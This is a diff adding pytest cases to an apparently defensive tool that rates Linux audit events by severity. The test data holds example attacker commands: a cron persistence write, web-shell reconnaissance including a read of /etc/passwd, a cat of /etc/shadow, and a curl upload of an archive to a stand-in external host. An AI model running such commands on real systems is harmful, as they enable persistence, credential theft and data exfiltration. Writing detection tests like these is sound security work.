@@ -5,14 +5,18 @@ numbers, hex flags, the PATH records of the objects), read by the real
 auparse: a rule here reads what a host's audit log holds.
 """
 
+import shlex
+
 import pytest
 from corpus import events_of, every_corpus_file, read
-from records import O_RDONLY, O_WRONLY_APPEND, O_WRONLY_CREAT_TRUNC, UNSET, event
+from records import O_RDONLY, O_WRONLY_APPEND, O_WRONLY_CREAT_TRUNC, UNSET, event, sudo_cmd
 from records import config_change as _config_change
 from records import syscall as _syscall
 from records import user as _user
 
-from audit_notify.severity import CRITICAL, INFO, LEVELS, WARNING, classify
+from audit_notify.message import V
+from audit_notify.phrases import effect
+from audit_notify.severity import CRITICAL, INFO, LEVELS, WARNING, Verdict, classify
 
 
 def syscall(name, **fields):
@@ -243,3 +247,71 @@ def test_by_type_passes_over_syscall_events_only_where_no_type_rule_could_judge_
         b'type=EOE msg=audit(1700000000.000:7): \n')
     assert [e.get("type") for e in denied] == ["SYSCALL"]
     assert severity.by_type(denied[0]) == severity.Verdict(WARNING, "access denied by AppArmor")
+
+
+# -- the command line, whatever rule saw it (evidence.py) ------------------------
+
+CRON_LINE = "echo '*/10 * * * * root /tmp/.update.sh' > /etc/cron.d/zz-persist"
+
+
+def test_a_sudo_whose_command_writes_cron_is_critical_without_any_watch_on_cron():
+    """STIG's rules log sudo's USER_CMD but watch no /etc/cron.d: the
+    command line is the evidence of the write."""
+    wrote = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE)))
+    assert classify(wrote) == Verdict(CRITICAL, "command: cron written")
+    assert classify(event(sudo_cmd("ls /var/log"))) == Verdict(WARNING, "sudo")
+
+
+def test_a_refused_sudo_of_the_same_is_an_attempt():
+    refused = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE), res="failed"))
+    assert classify(refused) == Verdict(WARNING, "command: cron written")
+
+
+def test_an_exec_of_a_shell_that_writes_cron_is_critical():
+    run = syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid="0", auid="1003",
+                  argv=("sh", "-c", CRON_LINE), key="rootcmd")
+    assert classify(run) == Verdict(CRITICAL, "command: cron written")
+    plain = syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid="0", auid="1003",
+                    argv=("sh", "-c", "echo '*/10 * * * *' > /tmp/cron.txt"), key="rootcmd")
+    assert level(plain) == INFO
+
+
+def _service_shell(uid="33", auid=UNSET, ppid=812, argv=("sh", "-c", "id; uname -a; cat /etc/passwd")):
+    """www-data's CGI child running a shell, as the kernel logs its exec."""
+    return syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid=uid, auid=auid,
+                   ppid=ppid, pid=9120, tty="(none)", argv=argv)
+
+
+def test_a_shell_started_by_a_service_account_is_a_web_shell():
+    assert classify(_service_shell()) == Verdict(CRITICAL, "shell started by a service account")
+    recon = syscall("execve", exe="/usr/bin/id", a0="55d0", paths=[("/usr/bin/id", "NORMAL")], uid="33", auid=UNSET,
+                    ppid=812, tty="(none)", argv=("id",))
+    assert classify(recon) == Verdict(CRITICAL, "shell started by a service account")
+
+
+def test_a_service_started_by_init_or_a_persons_shell_is_not():
+    assert level(_service_shell(ppid=1)) != CRITICAL  # systemd starting the service's own shell script
+    assert level(_service_shell(auid="1000")) != CRITICAL  # a person's session: su www-data -s /bin/sh
+    assert level(_service_shell(uid="1000")) != CRITICAL  # a person's uid, outside a session (cron, at)
+
+
+def test_the_shadow_file_read_by_an_ordinary_user_is_only_a_warning():
+    """An ordinary user's cat of /etc/shadow fails (EACCES): an attempt;
+    root's (sudo's child) reads the hashes."""
+    def cat(euid):
+        return syscall("execve", exe="/usr/bin/cat", a0="55d0", paths=[("/usr/bin/cat", "NORMAL")], uid=euid,
+                       auid="1001", argv=("cat", "/etc/shadow"))
+    assert classify(cat("1001")) == Verdict(WARNING, "command: password hashes read")
+    assert classify(cat("0")) == Verdict(CRITICAL, "command: password hashes read")
+
+
+def test_the_deed_is_said_with_its_values_marked_as_untrusted():
+    wrote = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE)))
+    parts = effect(classify(wrote).why, wrote)
+    assert parts == ("wrote ", "/etc/cron.d/zz-persist", " (cron)")
+    assert [isinstance(part, V) for part in parts] == [False, True, False]
+    run = syscall("execve", exe="/usr/bin/curl", a0="55d0", paths=[("/usr/bin/curl", "NORMAL")], uid="0",
+                  argv=("curl", "-T", "/tmp/a.tgz", "http://198.51.100.1:8000/"))
+    parts = effect(classify(run).why, run)
+    assert parts == ("uploaded ", "/tmp/a.tgz", " to ", "198.51.100.1:8000")
+    assert [isinstance(part, V) for part in parts] == [False, True, False, True]
